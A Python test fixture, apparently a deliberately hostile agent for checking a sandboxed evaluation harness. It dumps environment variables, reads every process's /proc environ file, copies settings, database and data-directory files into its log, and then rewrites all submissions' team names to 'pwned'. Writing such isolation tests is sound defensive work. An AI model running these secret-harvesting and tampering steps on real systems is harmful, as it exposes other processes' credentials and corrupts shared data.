"""Reads every secret it can reach (environment, other processes' environments, settings, database,
other attempts' files) into its log, then tries to rewrite the database."""

from __future__ import annotations

import glob
import os
import sqlite3

from hostile_common import StandingAgent, report


def get_entry_point() -> str:
    return "Snoop"


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as fh:
            return fh.read(1 << 20)
    except OSError as err:
        return f"<{err}>".encode()


class Snoop(StandingAgent):
    def setup(self, path_to_conf_file: str) -> None:
        super().setup(path_to_conf_file)
        report("environ", dict(os.environ))
        for environ in [f"/proc/{os.getppid()}/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
            report(environ, _read(environ))
        for key in ("settings", "database"):
            report(key, _read(self.config.get(key, "/nonexistent")))
        for path in glob.glob(os.path.join(self.config.get("data_dir", "/nonexistent"), "**"), recursive=True):
            if os.path.isfile(path):
                report(path, _read(path)[:2000])
        try:
            db = sqlite3.connect(self.config.get("database", "/nonexistent"), timeout=1)
            db.execute("UPDATE submissions SET team = 'pwned'")
            db.commit()
            report("database", "rewritten")
        except sqlite3.Error as err:
            report("database write failed", err)
        raise RuntimeError("snooping done")
